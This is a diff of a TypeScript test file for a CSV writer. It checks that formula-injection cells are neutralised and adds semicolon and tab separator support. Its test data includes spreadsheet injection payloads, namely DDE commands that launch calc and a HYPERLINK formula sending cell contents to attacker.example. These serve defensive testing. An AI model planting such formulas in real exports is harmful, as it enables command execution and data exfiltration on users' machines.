@@ -3,12 +3,13 @@ import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { neutralizeFormulas, writeCsv } from './csv.ts';
+import { csvSeparators } from './csv-separator.ts';
 
 const parsers = {
-  papaparse: (text: string) =>
-    Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: false }).data.slice(0, -1),
-  'csv-parse': (text: string) =>
-    parseWithCsvParse(text, { record_delimiter: '\r\n', relax_column_count: true }) as string[][],
+  papaparse: (text: string, delimiter = ',') =>
+    Papa.parse<string[]>(text, { delimiter, newline: '\r\n', skipEmptyLines: false }).data.slice(0, -1),
+  'csv-parse': (text: string, delimiter = ',') =>
+    parseWithCsvParse(text, { delimiter, record_delimiter: '\r\n', relax_column_count: true }) as string[][],
 };
 
 const dangerousTexts: readonly (readonly [why: string, text: string, safe?: string])[] = [
@@ -16,6 +17,19 @@ const dangerousTexts: readonly (readonly [why: string, text: string, safe?: stri
   ['plus', '+1+1', "'+1+1"],
   ['minus', '-1+1', "'-1+1"],
   ['at', '@SUM(A1)', "'@SUM(A1)"],
+  ['at and a command', "@SUM(1+1)*cmd|' /C calc'!A0"],
+  ['at and a name that is called', '@lti_17(1)'],
+  ['at and another program', '@excel_x|y!z'],
+  ['at and another workbook', '@[book_1]x!A1'],
+  ['at and a calculation', '@lti_17+1'],
+  ['at and a cell', '@A1', "'@A1"],
+  ['at and a cell of a wide sheet', '@LTI17', "'@LTI17"],
+  ['at and cells', '@A1:B2', "'@A1:B2"],
+  ['at and a cell by numbers', '@R1C1:R2C2', "'@R1C1:R2C2"],
+  ['only at', '@', "'@"],
+  ['a blank and a name with at', ' @lti_17', "' @lti_17"],
+  ['a name with at in a line within', 'a\n@lti_17', "a\n'@lti_17"],
+  ['a name with at and a line', '@lti_17\n=1', "'@lti_17\n'=1"],
   ['a link', '=HYPERLINK("http://attacker.example/?x="&A1,"open")'],
   ['a command', "=cmd|' /C calc'!A0"],
   ['a command behind a number', '-2+3+cmd|"/C calc"!A0'],
@@ -69,10 +83,20 @@ const harmless = [
   'Ältere Karten',
   '😀',
   '"',
+  '@lti_17',
+  '@google_118273645019283746501',
+  '@lti:9f8e7d6c5b4a39281706f5e4d3c2b1a0@canvas.northwind.example',
+  '@maria.müller-lopez',
+  '@museum.example',
 ];
 
-const runs = (cell: string) =>
-  cell.split(/\r\n|[\r\n\t;]/).some((part) => /^[\p{Z}\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(part));
+/** After '@' alone, a function or a command needs one of these, and a cell has a short address. */
+const isName = (part: string) => /^@[^\s()[\]{}|!=+*/^&%<>,;'"$]{4,}$/u.test(part);
+
+const runs = (cell: string, separators = /\r\n|[\r\n\t;]/) =>
+  cell
+    .split(separators)
+    .some((part) => /^[\p{Z}\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(part) && !isName(part));
 
 describe('formulas in a cell (T31)', () => {
   it.each(dangerous)('are made harmless behind %s', (_, text, safe) => {
@@ -89,6 +113,17 @@ describe('formulas in a cell (T31)', () => {
     fc.assert(
       fc.property(fc.string({ unit: pieces }), (text) => !runs(neutralizeFormulas(text))),
       { numRuns: 5000 },
+    );
+  });
+
+  it.each([';', '\t'] as const)('never survive in a file with %j that is read with commas', (separator) => {
+    const pieces = fc.constantFrom(...'=+-@;,"\' \t\nax1'.split(''));
+    fc.assert(
+      fc.property(
+        fc.string({ unit: pieces }),
+        (text) => !runs(neutralizeFormulas(text, separator), /[\r\n\t;,]/),
+      ),
+      { numRuns: 1000 },
     );
   });
 
@@ -133,12 +168,27 @@ describe('a CSV text', () => {
     );
   });
 
+  it('separates by a semicolon or a tab on request', () => {
+    const rows = [
+      ['name', 'a;b', 'c,d'],
+      ['mia', 0.25, 'e,=1'],
+    ];
+    expect(writeCsv(rows, { separator: ';' })).toBe('name;"a;b";"c,d"\r\nmia;0.25;"e,\'=1"\r\n');
+    expect(writeCsv(rows, { separator: '\t' })).toBe('name\t"a;b"\t"c,d"\r\nmia\t0.25\t"e,\'=1"\r\n');
+  });
+
   it.each(Object.entries(parsers))('is read back by %s with any content', (_, parse) => {
     const cell = fc.string({ unit: fc.constantFrom(...'ab,;"\'=\r\n\t '.split('')), minLength: 1 });
     fc.assert(
-      fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
-        expect(parse(writeCsv(rows))).toEqual(rows.map((row) => row.map(neutralizeFormulas)));
-      }),
+      fc.property(
+        fc.array(fc.tuple(cell, cell), { minLength: 1 }),
+        fc.constantFrom(...csvSeparators),
+        (rows, separator) => {
+          expect(parse(writeCsv(rows, { separator }), separator)).toEqual(
+            rows.map((row) => row.map((text) => neutralizeFormulas(text, separator))),
+          );
+        },
+      ),
       { numRuns: 1000 },
     );
   });
